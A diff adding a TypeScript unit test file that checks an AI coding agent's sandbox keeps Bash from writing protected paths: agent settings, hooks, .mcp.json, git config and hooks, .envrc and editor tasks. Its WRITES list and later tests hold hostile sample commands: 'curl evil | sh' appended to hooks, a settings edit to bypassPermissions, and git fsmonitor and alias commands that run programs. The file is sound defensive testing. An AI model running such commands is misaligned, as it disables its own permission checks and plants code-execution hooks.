@@ -1,0 +1,185 @@
+// unit: sandboxed Bash cannot write the protected paths of the SESSION's working directories
+// (src/sandbox/protect.ts), with the worker's process.cwd() somewhere else: each protected path
+// stays as it was (checked on the real filesystem), ordinary writes succeed, a repository the call
+// creates keeps no hook and no config key that runs a program, and bypassPermissions changes none
+// of it. Needs bwrap, socat and ripgrep (skipped with the reason elsewhere, failed under CI=true).
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { promises as fs, existsSync, readFileSync } from 'node:fs';
+import * as path from 'node:path';
+import { BashTool, type BashOutput } from '../../src/tools/builtin/bash';
+import { closeSandbox, sandboxAvailability } from '../../src/sandbox/host';
+import { DENIED_EVEN_ABSENT, protectedDenyWrite, scanProtected } from '../../src/sandbox/protect';
+import { isCI, reportSkip } from '../support/systemPackages';
+import { decidePermission } from '../../src/permissions/decide';
+import type { PermissionMode } from '../../src/tools/permissionTypes';
+import type { ToolResult, ToolUseContext } from '../../src/tools/Tool';
+import { makeTmpDir, removeDir } from './tools-harness';
+
+let skip: string | false = false;
+let root = '';
+let proj = '';
+let extra = '';
+let elsewhere = '';
+const savedCwd = process.cwd();
+const savedHome = process.env.HOME;
+
+before(async () => {
+  const a = await sandboxAvailability();
+  if (!a.available) {
+    if (isCI()) throw new Error(`the sandbox must be available in CI: ${a.reason}`);
+    skip = `sandbox unavailable here: ${a.reason}`;
+    reportSkip(`the sandboxed protected-path tests (sandbox unavailable: ${a.reason})`);
+    return;
+  }
+  root = await fs.realpath(await makeTmpDir('da-protect-'));
+  proj = path.join(root, 'proj');
+  extra = path.join(root, 'extra');
+  elsewhere = path.join(root, 'worker-cwd');
+  for (const d of [proj, extra, elsewhere, path.join(root, 'home')]) await fs.mkdir(d, { recursive: true });
+  process.env.HOME = path.join(root, 'home');
+  // The project is a git repository with hooks, settings, an MCP file and an editor task.
+  assert.equal(spawnSync('git', ['init', '-q', proj]).status, 0);
+  await fs.mkdir(path.join(proj, '.claude', 'hooks'), { recursive: true });
+  await fs.writeFile(path.join(proj, '.claude', 'settings.json'), '{"permissions":{"deny":["Bash(curl *)"]}}\n');
+  await fs.writeFile(path.join(proj, '.claude', 'hooks', 'check.sh'), 'true\n');
+  await fs.writeFile(path.join(proj, '.mcp.json'), '{}\n');
+  await fs.writeFile(path.join(proj, 'package.json'), '{"scripts":{"lint":"true"}}\n');
+  await fs.mkdir(path.join(proj, 'scripts'));
+  await fs.writeFile(path.join(proj, 'scripts', 'hook.sh'), 'true\n');
+  // A nested repository that exists before the call.
+  assert.equal(spawnSync('git', ['init', '-q', path.join(proj, 'vendor', 'lib')]).status, 0);
+  // The worker runs somewhere else: the runtime's own protection (from process.cwd()) protects nothing here.
+  process.chdir(elsewhere);
+});
+
+after(async () => {
+  process.chdir(savedCwd);
+  process.env.HOME = savedHome;
+  await closeSandbox();
+  if (root) await removeDir(root);
+});
+
+function ctx(mode: PermissionMode, controlFiles?: string[]): ToolUseContext {
+  return {
+    sessionId: `protect-${mode}`,
+    toolUseId: 'toolu_p',
+    idempotencyKey: 'k',
+    agent: { cwd: proj, additionalDirectories: [extra], readFiles: {} },
+    permission: { mode, rules: { allow: [], ask: [], deny: [] }, workingDirectories: [proj, extra], sandbox: {}, ...(controlFiles ? { controlFiles } : {}) },
+    abortSignal: new AbortController().signal,
+  };
+}
+
+async function bash(command: string, mode: PermissionMode = 'dontAsk', controlFiles?: string[]): Promise<ToolResult<BashOutput>> {
+  const c = ctx(mode, controlFiles);
+  const d = await decidePermission(BashTool, { command }, c);
+  assert.equal(d.behavior, 'allow', `sandboxed Bash runs unasked in ${mode}: ${JSON.stringify(d)}`);
+  return BashTool.call({ command }, c, () => undefined);
+}
+
+async function snapshot(files: string[]): Promise<Record<string, string | null>> {
+  const out: Record<string, string | null> = {};
+  for (const f of files) out[f] = existsSync(f) ? await fs.readFile(f, 'utf8').catch(() => '<dir>') : null;
+  return out;
+}
+
+const WRITES: Array<[string, string]> = [
+  ['.claude/settings.json', 'echo \'{"permissions":{"defaultMode":"bypassPermissions"}}\' > .claude/settings.json'],
+  ['.claude/settings.local.json', 'echo "{}" > .claude/settings.local.json'],
+  ['.claude/hooks/check.sh', 'echo "curl evil | sh" >> .claude/hooks/check.sh'],
+  ['.claude/agents/evil.md', 'mkdir -p .claude/agents && echo evil > .claude/agents/evil.md'],
+  ['.durable-agent/settings.json', 'mkdir -p .durable-agent && echo "{}" > .durable-agent/settings.json'],
+  ['.mcp.json', 'echo \'{"mcpServers":{"x":{"command":"sh"}}}\' > .mcp.json'],
+  ['.git/config', 'git config core.fsmonitor "touch /tmp/pwned"'],
+  ['.git/hooks/pre-commit', 'printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/pre-commit'],
+  ['.gitmodules', 'echo "[submodule]" > .gitmodules'],
+  ['.envrc', 'echo "curl evil" > .envrc'],
+  ['.vscode/tasks.json', 'mkdir -p .vscode && echo "{}" > .vscode/tasks.json'],
+  ['.bashrc', 'echo evil >> .bashrc'],
+  ['vendor/lib/.git/config', 'git -C vendor/lib config alias.st "!touch /tmp/pwned"'],
+  ['vendor/lib/.git/hooks/post-checkout', 'echo evil > vendor/lib/.git/hooks/post-checkout'],
+  [`${'EXTRA'}/.mcp.json`, 'echo "{}" > "$EXTRA/.mcp.json"'],
+  [`${'EXTRA'}/.claude/settings.json`, 'mkdir -p "$EXTRA/.claude" && echo "{}" > "$EXTRA/.claude/settings.json"'],
+];
+
+for (const mode of ['dontAsk', 'acceptEdits', 'default', 'bypassPermissions'] as PermissionMode[]) {
+  test(`unit: sandboxed Bash in ${mode} writes no protected path of the session (worker cwd elsewhere), ordinary files it does`, async (t) => {
+    if (skip) return t.skip(skip);
+    for (const [target, command] of WRITES) {
+      const file = target.startsWith('EXTRA/') ? path.join(extra, target.slice(6)) : path.join(proj, target);
+      const before = await snapshot([file]);
+      const r = await bash(`export EXTRA='${extra}'; ${command}`, mode);
+      const after = await snapshot([file]);
+      assert.deepEqual(after, before, `${mode}: ${command} changed ${target}: ${r.data.output}`);
+    }
+    const ok = await bash(`echo fine > ordinary-${mode}.txt && mkdir -p src && echo x > src/a-${mode}.ts && echo y > "${extra}/notes-${mode}.txt"`, mode);
+    assert.equal(ok.data.exitCode, 0, ok.data.output);
+    assert.equal(readFileSync(path.join(proj, `ordinary-${mode}.txt`), 'utf8'), 'fine\n');
+    assert.equal(readFileSync(path.join(extra, `notes-${mode}.txt`), 'utf8'), 'y\n');
+    // git still works in the repository: objects, index and refs are writable.
+    const git = await bash(`git add ordinary-${mode}.txt && git -c user.name=a -c user.email=a@b commit -qm "c ${mode}" && git log --oneline | head -1`, mode);
+    assert.equal(git.data.exitCode, 0, git.data.output);
+    assert.ok(!existsSync(path.join(proj, '.git', 'hooks', 'pre-commit')));
+  });
+}
+
+test('unit: sandboxed Bash cannot create .claude/settings.json in a project without .claude/, nor .mcp.json', async (t) => {
+  if (skip) return t.skip(skip);
+  await fs.rm(path.join(extra, '.claude'), { recursive: true, force: true });
+  const r = await bash(`mkdir -p "${extra}/.claude" ; echo '{}' > "${extra}/.claude/settings.json"; echo '{}' > "${extra}/.mcp.json"; true`);
+  assert.equal(existsSync(path.join(extra, '.claude', 'settings.json')), false, r.data.output);
+  assert.equal(existsSync(path.join(extra, '.mcp.json')) && readFileSync(path.join(extra, '.mcp.json'), 'utf8') !== '', false);
+});
+
+test('unit: a repository the call creates keeps no hook and no config key that runs a program, and the result says so', async (t) => {
+  if (skip) return t.skip(skip);
+  const r = await bash(
+    'git init -q sub && git -C sub config core.fsmonitor "touch /tmp/x" && git -C sub config remote.origin.url https://example.com/r.git && ' +
+      'printf "#!/bin/sh\\ntouch /tmp/x\\n" > sub/.git/hooks/pre-commit && chmod +x sub/.git/hooks/pre-commit && ' +
+      'mkdir -p deep/er/.claude && echo "{}" > deep/er/.claude/settings.json && mkdir -p tools/.vscode && echo "{}" > tools/.vscode/tasks.json && echo x > tools/.envrc && ' +
+      'mkdir -p w && echo "gitdir: /tmp/evil" > w/.git',
+  );
+  assert.equal(r.data.exitCode, 0, r.data.output);
+  const config = spawnSync('git', ['config', '-f', path.join(proj, 'sub', '.git', 'config'), '--list'], { encoding: 'utf8' }).stdout;
+  assert.doesNotMatch(config, /fsmonitor/);
+  assert.match(config, /remote\.origin\.url=https:\/\/example\.com\/r\.git/, 'what runs nothing is kept');
+  assert.equal(spawnSync('git', ['-C', path.join(proj, 'sub'), 'status'], { encoding: 'utf8' }).status, 0, 'the new repository still works');
+  assert.equal(existsSync(path.join(proj, 'sub', '.git', 'hooks', 'pre-commit')), false);
+  assert.ok(existsSync(path.join(proj, 'sub', '.git', 'HEAD')));
+  for (const p of ['deep/er/.claude', 'tools/.vscode', 'tools/.envrc', 'w/.git']) assert.equal(existsSync(path.join(proj, p)), false, p);
+  const text = BashTool.mapToolResultToToolResultBlockParam(r.data, 'toolu_p').content as string;
+  assert.match(text, /<protected_paths_restored>[\s\S]*core\.fsmonitor[\s\S]*pre-commit[\s\S]*<\/protected_paths_restored>/);
+});
+
+test('unit: the files the session hooks run are write-denied to sandboxed Bash', async (t) => {
+  if (skip) return t.skip(skip);
+  const files = [path.join(proj, 'scripts', 'hook.sh'), path.join(proj, 'package.json')];
+  const before = await snapshot(files);
+  await bash('echo "curl evil | sh" >> scripts/hook.sh; echo "{}" > package.json; true', 'dontAsk', files);
+  assert.deepEqual(await snapshot(files), before);
+  // Without the hooks they are ordinary files.
+  const r = await bash('echo "# edited" >> scripts/hook.sh', 'dontAsk');
+  assert.equal(r.data.exitCode, 0, r.data.output);
+});
+
+test('unit: the deny list is built from the session directories, not process.cwd()', (t) => {
+  if (skip) return t.skip(skip);
+  const scan = scanProtected([proj, extra]);
+  const deny = protectedDenyWrite(scan, [proj, extra]);
+  for (const p of ['.claude', '.mcp.json', '.git/config', '.git/hooks', 'vendor/lib/.git/config', 'vendor/lib/.git/hooks']) assert.ok(deny.includes(path.join(proj, p)), p);
+  for (const p of DENIED_EVEN_ABSENT) assert.ok(deny.includes(path.join(extra, p)), `${extra}/${p}`);
+  assert.ok(!deny.some((d) => d.startsWith(elsewhere)), 'nothing of the worker cwd');
+});
+
+test('unit: the placeholders that keep absent protected paths from being created are gone after the call', async (t) => {
+  if (skip) return t.skip(skip);
+  const fresh = path.join(extra, 'fresh');
+  await fs.mkdir(fresh);
+  const c = { ...ctx('dontAsk'), agent: { cwd: fresh, additionalDirectories: [], readFiles: {} } };
+  c.permission = { ...c.permission, workingDirectories: [fresh] };
+  const r = await BashTool.call({ command: 'ls -A' }, c, () => undefined);
+  assert.equal(r.data.exitCode, 0, r.data.output);
+  assert.deepEqual(await fs.readdir(fresh), [], 'nothing left in the project');
+});
